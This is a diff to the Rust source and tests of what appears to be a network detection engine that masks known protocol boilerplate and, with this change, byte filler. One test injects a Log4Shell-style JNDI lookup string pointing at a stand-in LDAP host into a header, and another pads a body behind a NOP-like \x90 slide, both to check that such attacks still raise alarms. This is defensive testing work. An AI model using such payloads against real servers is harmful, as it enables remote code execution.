@@ -2,15 +2,16 @@
 //!
 //! The literals are in `engine/baseline/*.txt`, a file a protocol, each line a quoted
 //! string and why it is there. They are masked in the grown content, where they stand
-//! whole or cut off by its ends. Letters match in either case.
+//! whole or cut off by its ends. Letters match in either case. So is filler (see
+//! [`filler`]).
 
-use super::SuppressedList;
+use super::{SuppressedList, filler};
 use crate::state::persist;
 use aho_corasick::{AhoCorasick, MatchKind};
 use std::collections::BTreeMap;
 
-/// The files, by name.
-const SHIPPED: [(&str, &str); 11] = [
+/// The files, by name, and the name of what needs no literals.
+const SHIPPED: [(&str, &str); 13] = [
     ("http", include_str!("../../../baseline/http.txt")),
     ("tls", include_str!("../../../baseline/tls.txt")),
     ("x509", include_str!("../../../baseline/x509.txt")),
@@ -22,7 +23,12 @@ const SHIPPED: [(&str, &str); 11] = [
     ("sip", include_str!("../../../baseline/sip.txt")),
     ("peers", include_str!("../../../baseline/peers.txt")),
     ("services", include_str!("../../../baseline/services.txt")),
+    ("http2", include_str!("../../../baseline/http2.txt")),
+    ("filler", ""),
 ];
+
+/// What covers filler.
+const FILLER: LiteralFile = LiteralFile(SHIPPED.len() - 1);
 
 /// A file of literals.
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord)]
@@ -66,16 +72,21 @@ impl Covered {
     }
 
     /// Whether what is left is too little to stand by itself, windows being of `beta`
-    /// bytes: no unknown run of beta / 2 bytes, and less unknown than known in all.
+    /// bytes: no unknown run of more than beta / 2 bytes, and less unknown than known in
+    /// all; less than a third of it where filler covers most.
     ///
-    /// A window alarmed because all of it recurs. While unknown runs are shorter than
+    /// A window alarmed because all of it recurs. While unknown runs are no longer than
     /// beta / 2, boilerplate is at least half of each such window (but for windows with
     /// two runs and a short literal between them, which the second part is for): the
     /// window recurs because the protocol does. The values of common headers fit; what
     /// does harm needs more room, or is cut into pieces around literals of its own size.
+    /// Filler costs a sender nothing and says nothing of a protocol, so more of it is
+    /// asked for: a window of 40 is filler with up to nine other bytes.
     pub fn is_all(&self, beta: usize) -> bool {
         let unknown = self.known.iter().filter(|known| !**known).count();
-        self.longest_unknown() < beta / 2 && 2 * unknown < self.known.len()
+        let known = self.known.len() - unknown;
+        let times = if self.mostly() == Some(FILLER) { 3 } else { 1 };
+        self.longest_unknown() <= beta / 2 && times * unknown < known
     }
 
     /// The file that covers most, the first of equals.
@@ -116,7 +127,7 @@ impl Boilerplate {
         Ok(Self { automaton, literals })
     }
 
-    /// Lays all literals over a content.
+    /// Lays all literals over a content, and notes its filler.
     pub fn cover(&self, content: &[u8]) -> Covered {
         let mut found = Vec::new();
         for it in self.automaton.find_overlapping_iter(content) {
@@ -130,6 +141,7 @@ impl Boilerplate {
                 found.push((content.len() - length..content.len(), *file));
             }
         }
+        found.extend(filler::stretches(content).into_iter().map(|it| (it, FILLER)));
         // Longer ones first, so that a byte counts for the literal that says most.
         found.sort_by_key(|(range, file)| {
             (std::cmp::Reverse(range.len()), range.start, *file)
@@ -220,7 +232,8 @@ mod tests {
 
     /// The slow twin: every literal, and every part of one at an end, at every place.
     fn naive(boilerplate: &Boilerplate, content: &[u8]) -> Vec<bool> {
-        let mut known = vec![false; content.len()];
+        let mut known: Vec<bool> =
+            (0..content.len()).map(|at| filler::is_filler(content, at)).collect();
         for (literal, _) in boilerplate.literals() {
             for start in -(literal.len() as i64)..content.len() as i64 {
                 let inside: Vec<(usize, u8)> = (start..)
@@ -302,5 +315,83 @@ mod tests {
         let attack = head.replace("example.org", "${jndi:ldap://192.0.2.1/Command}");
         assert!(!shipped.cover(attack.as_bytes()).is_all(40));
         assert!(!shipped.cover(b"19 unknown bytes...").is_all(40));
+    }
+
+    /// What the protocols that everybody speaks begin with, in the bytes that programs
+    /// send, with names and numbers of their own.
+    #[test]
+    fn the_beginnings_of_common_protocols_are_boilerplate() {
+        let shipped = Boilerplate::shipped();
+        let text =
+            |literal: &str| super::literal(&format!("\"{literal}\" | it")).unwrap();
+        let zeros = |n| vec![0; n];
+        let ssh_tail = text(concat!(
+            r"\x00\x00\x00\x15none,zlib@openssh.com\x00\x00\x00\x15none,zlib@openssh.com",
+            r"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
+        ));
+        let http2 = text(concat!(
+            r"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04\x00\x00\x00\x00\x00",
+            r"\x00\x03\x00\x00\x00\x64\x00\x04\x00\x01\x00\x00\x00\x02\x00\x00\x00\x00",
+        ));
+        let grpc = text(concat!(
+            r"\x00\x00\x3e\x01\x04\x00\x00\x00\x01\x83\x86\x45\x8ashop.C/Add\x41\x88",
+            r"10.1.2.3\x5f\x8b\x1d\x75\xd0\x62\x0d\x26\x3d\x4c\x4d\x65\x64",
+            r"\x40\x02te\x86\x4d\x83\x35\x05\xb1\x1f",
+        ));
+        let mailslot = text(concat!(
+            r"\xffSMB\x25\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
+            r"\x11\x00\x00\x21\x00\x00\x00\x00\x00\x00\x00\x00\x00\xe8\x03\x00\x00\x00\x00",
+            r"\x00\x00\x00\x00\x21\x00\x56\x00\x03\x00\x01\x00\x00\x00\x02\x00\x32\x00",
+            r"\\MAILSLOT\\BROWSE\x00\x01\x00",
+        ));
+        let spnego = text(concat!(
+            r"\x60\x48\x06\x06\x2b\x06\x01\x05\x05\x02\xa0\x3e\x30\x3c\xa0\x0e\x30\x0c",
+            r"\x06\x0a\x2b\x06\x01\x04\x01\x82\x37\x02\x02\x0a\xa2\x2a\x04\x28",
+            r"NTLMSSP\x00\x01\x00\x00\x00\x97\x82\x08\xe2",
+        ));
+        let mut dhcp = text(r"\x01\x01\x06\x00\x3d\x1d\x99\x01");
+        dhcp.extend(zeros(20));
+        dhcp.extend(text(r"\x00\x0b\x82\x01\xfc\x42"));
+        dhcp.extend(zeros(202));
+        dhcp.extend(text(r"\x63\x82\x53\x63\x35\x01\x01\x3d\x07\x01"));
+        let mut ntp = text(r"\xe3\x00\x03\xfa\x00\x01\x00\x00\x00\x01\x00\x00");
+        ntp.extend(zeros(28));
+        let date = text(concat!(
+            r"\r\nDate: Fri, 01 Mar 2024 10:20:30 GMT\r\n",
+            r"Content-Type: text/html; charset=UTF-8\r\n",
+        ));
+        for content in [ssh_tail, http2, grpc, mailslot, spnego, dhcp, ntp, date] {
+            let covered = shipped.cover(&content);
+            assert!(
+                covered.is_all(40),
+                "{}: {} unknown in a row",
+                content.escape_ascii(),
+                covered.longest_unknown()
+            );
+        }
+    }
+
+    #[test]
+    fn few_bytes_in_filler_are_filler_and_more_are_not() {
+        let shipped = Boilerplate::shipped();
+        for unit in [&b"\0"[..], b"\xff", b"AB", b"\x90\x90\x00", b"12345678"] {
+            let filler = unit.repeat(40 / unit.len() + 1);
+            for strange in [&b"\x2a"[..], b"Q7*", b"t0&bR.4;x"] {
+                let before = [strange, &filler].concat();
+                let behind = [&filler, strange].concat();
+                for content in [before, behind] {
+                    let covered = shipped.cover(&content);
+                    assert!(covered.is_all(40), "{}", content.escape_ascii());
+                    assert_eq!(covered.mostly(), Some(FILLER));
+                }
+            }
+            // A body of thirty bytes behind a slide stays a body.
+            let body: Vec<u8> = (0..30_u8).map(|n| n.wrapping_mul(73) ^ 0x5a).collect();
+            let attack = [&filler[..], &body].concat();
+            assert!(!shipped.cover(&attack).is_all(40));
+            // Nor do fifteen bytes pass for filler by being padded to a window.
+            let padded = [&body[..15], &filler[..25]].concat();
+            assert!(!shipped.cover(&padded).is_all(40));
+        }
     }
 }
